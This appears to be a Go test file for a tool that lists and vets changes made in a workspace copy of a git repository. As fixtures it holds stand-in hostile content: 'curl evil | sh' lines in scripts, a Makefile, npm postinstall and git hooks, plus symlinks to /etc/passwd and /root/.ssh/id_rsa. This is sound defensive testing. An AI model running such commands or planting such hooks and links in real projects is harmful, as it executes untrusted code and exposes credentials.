package project

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// baseFiles is the project the change set tests start from.
var baseFiles = map[string]string{
	"calc.py": "def add(a, b):\n    return a - b\n", "test_calc.py": "from calc import add\n",
	"Makefile": "test:\n\tpytest\n", "package.json": `{"name": "p", "version": "1", "scripts": {"test": "jest"}}`,
	"tool.sh*": "#!/bin/sh\necho hi\n", "old.txt": "old\n", ".gitignore": "*.log\n",
	"logo.bin": "\x00\x01logo", "data.bin": "\x00\x02data",
	"link": "", // replaced by a symlink in newProject
}

// newProject is a repository of baseFiles with "link" a symlink to
// calc.py, and its copy.
func newProject(t *testing.T) (string, *Copy) {
	t.Helper()
	gitEnv(t)
	dir := filepath.Join(t.TempDir(), "proj")
	must(t, os.Mkdir(dir, 0o755))
	run(t, dir, "git", "init", "-q", "-b", "main")
	for name, content := range baseFiles {
		if name != "link" {
			write(t, dir, name, content)
		}
	}
	must(t, os.Symlink("calc.py", filepath.Join(dir, "link")))
	run(t, dir, "git", "add", "-A")
	run(t, dir, "git", "commit", "-q", "-m", "start")
	return dir, copyOf(t, dir)
}

// change describes a Change in one line for the tables below.
func (ch Change) String() string {
	s := fmt.Sprintf("%s %s", ch.Op, ch.Path)
	if ch.Mode != "" {
		s += " " + ch.Mode
	}
	if ch.OldMode != "" {
		s += " from " + ch.OldMode
	}
	if ch.Target != "" {
		s += " -> " + ch.Target
	}
	if ch.Binary {
		s += " binary"
	}
	if ch.RunsCode != "" {
		s += " [runs: " + ch.RunsCode + "]"
	}
	if ch.Refused != "" {
		s += " [refused: " + ch.Refused + "]"
	}
	if ch.Note != "" {
		s += " [note: " + ch.Note + "]"
	}
	return s
}

func TestChanges(t *testing.T) {
	for _, tc := range []struct {
		name    string
		do      func(t *testing.T, ws string)
		want    []string // Change.String of each, in order
		ignored int
	}{
		{"nothing", func(*testing.T, string) {}, nil, 0},
		{"touched, same contents", func(t *testing.T, ws string) {
			write(t, ws, "calc.py", baseFiles["calc.py"])
		}, nil, 0},
		{"modified, created, deleted", func(t *testing.T, ws string) {
			write(t, ws, "calc.py", "def add(a, b):\n    return a + b\n")
			write(t, ws, "tests/test_more.py", "x\n")
			must(t, os.Remove(filepath.Join(ws, "old.txt")))
		}, []string{"modified calc.py 100644", "deleted old.txt from 100644", "created tests/test_more.py 100644"}, 0},
		{"caches and ignored files left out", func(t *testing.T, ws string) {
			write(t, ws, "__pycache__/calc.cpython-311.pyc", "\x00bin")
			write(t, ws, ".pytest_cache/v/cache/lastfailed", "{}")
			write(t, ws, "run.log", "ignored by .gitignore\n")
		}, nil, 3},
		{"execute bit", func(t *testing.T, ws string) {
			must(t, os.Chmod(filepath.Join(ws, "calc.py"), 0o755))
			must(t, os.Chmod(filepath.Join(ws, "tool.sh"), 0o644))
		}, []string{"modified calc.py 100755 from 100644 [runs: executable]", "modified tool.sh 100644 from 100755"}, 0},
		{"new executable script", func(t *testing.T, ws string) {
			write(t, ws, "deploy.sh*", "#!/bin/sh\ncurl evil | sh\n")
		}, []string{"created deploy.sh 100755 [runs: executable]"}, 0},
		{"build and CI files flagged", func(t *testing.T, ws string) {
			write(t, ws, "Makefile", "test:\n\tcurl evil | sh\n")
			write(t, ws, ".github/workflows/ci.yml", "on: push\n")
			write(t, ws, ".envrc", "export X=1\n")
			write(t, ws, ".vscode/tasks.json", "{}\n")
			write(t, ws, ".gitattributes", "*.py filter=evil\n")
		}, []string{
			"created .envrc 100644 [runs: direnv runs it when you enter the directory]",
			"created .gitattributes 100644 [runs: git or a hook manager runs what it names]",
			"created .github/workflows/ci.yml 100644 [runs: CI runs it]",
			"created .vscode/tasks.json 100644 [runs: your editor may run what it names when you open the project]",
			"modified Makefile 100644 [runs: make runs it]",
		}, 0},
		{"package.json scripts flagged, its version not", func(t *testing.T, ws string) {
			write(t, ws, "package.json", `{"name": "p", "version": "2", "scripts": {"test": "jest"}}`)
			write(t, ws, "web/package.json", `{"name": "w", "scripts": {"postinstall": "curl evil | sh"}}`)
		}, []string{"modified package.json 100644", "created web/package.json 100644 [runs: npm runs its scripts]"}, 0},
		{"package.json scripts changed", func(t *testing.T, ws string) {
			write(t, ws, "package.json", `{"name": "p", "version": "1", "scripts": {"test": "jest", "prepare": "sh x"}}`)
		}, []string{"modified package.json 100644 [runs: npm runs its scripts]"}, 0},
		{"hostile: .git written", func(t *testing.T, ws string) {
			write(t, ws, ".git/hooks/pre-commit*", "#!/bin/sh\ncurl evil | sh\n")
			write(t, ws, ".git/config", "[core]\n\tfsmonitor = evil\n")
			write(t, ws, "sub/.GIT/x", "x\n")
		}, []string{
			"created .git [refused: inside .git (2 entries): git's own files are never written]",
			"created sub/.GIT [refused: inside .git (1 entry): git's own files are never written]",
		}, 0},
		{"hostile: setuid and world-writable bits", func(t *testing.T, ws string) {
			write(t, ws, "suid", "x\n")
			must(t, os.Chmod(filepath.Join(ws, "suid"), 0o4755|os.ModeSetuid))
			must(t, syscall.Chmod(filepath.Join(ws, "suid"), 0o4755))
			write(t, ws, "open.txt", "x\n")
			must(t, syscall.Chmod(filepath.Join(ws, "open.txt"), 0o666))
		}, []string{
			"created open.txt 100644 [note: world-write bit left out]",
			"created suid 100755 [runs: executable] [note: setuid bit left out]",
		}, 0},
		{"hostile: symlinks out", func(t *testing.T, ws string) {
			must(t, os.Symlink("/etc", filepath.Join(ws, "etc")))
			must(t, os.Symlink("../../../../etc/passwd", filepath.Join(ws, "up")))
			must(t, os.Symlink(".git/hooks", filepath.Join(ws, "hooks")))
			must(t, os.Remove(filepath.Join(ws, "link")))
			must(t, os.Symlink("/root/.ssh/id_rsa", filepath.Join(ws, "link")))
			must(t, os.MkdirAll(filepath.Join(ws, "d"), 0o755))
			must(t, os.Symlink("../calc.py", filepath.Join(ws, "d/ok")))
		}, []string{
			"created d/ok 120000 -> ../calc.py",
			"created etc 120000 -> /etc [refused: a symlink pointing outside the project (an absolute path)]",
			"created hooks 120000 -> .git/hooks [refused: a symlink pointing into .git]",
			"modified link 120000 -> /root/.ssh/id_rsa [refused: a symlink pointing outside the project (an absolute path)]",
			"created up 120000 -> ../../../../etc/passwd [refused: a symlink pointing outside the project]",
		}, 0},
		{"hostile: special files and names", func(t *testing.T, ws string) {
			must(t, syscall.Mkfifo(filepath.Join(ws, "fifo"), 0o644))
			write(t, ws, "evil\nname", "x\n")
			write(t, ws, "esc\x1b[2J", "x\n")
		}, []string{
			"created esc\x1b[2J 100644 [refused: its name is not allowed: contains a control character]",
			"created evil\nname 100644 [refused: its name is not allowed: contains a control character]",
			"created fifo [refused: a special file (named pipe)]",
		}, 0},
		{"type changes", func(t *testing.T, ws string) {
			must(t, os.Remove(filepath.Join(ws, "link")))
			write(t, ws, "link", "now a file\n")
			must(t, os.Remove(filepath.Join(ws, "old.txt")))
			must(t, os.Symlink("calc.py", filepath.Join(ws, "old.txt")))
		}, []string{"deleted link from 120000", "created link 100644", "deleted old.txt from 100644", "created old.txt 120000 -> calc.py"}, 0},
		{"binary", func(t *testing.T, ws string) {
			write(t, ws, "plot.png", "\x89PNG\r\n\x1a\n\x00\x00")
		}, []string{"created plot.png 100644 binary"}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, c := newProject(t)
			tc.do(t, c.Workspace)
			cs, err := c.Changes(t.Context())
			must(t, err)
			var got []string
			for _, ch := range cs.Changes {
				got = append(got, ch.String())
			}
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") || cs.Ignored != tc.ignored {
				t.Fatalf("changes (ignored %d):\n%s\nwant (ignored %d):\n%s", cs.Ignored, strings.Join(got, "\n"), tc.ignored, strings.Join(tc.want, "\n"))
			}
		})
	}
}

// TestChangesTooLarge: a file over the cap is listed, refused, never read
// whole.
func TestChangesTooLarge(t *testing.T) {
	_, c := newProject(t)
	c.limits.MaxFileBytes = 1 << 20
	write(t, c.Workspace, "big.bin", strings.Repeat("x", 2<<20))
	cs, err := c.Changes(t.Context())
	must(t, err)
	if len(cs.Changes) != 1 || cs.Changes[0].Refused != "larger than 1 MiB" || len(cs.Applicable()) != 0 {
		t.Fatalf("changes %v", cs.Changes)
	}
}
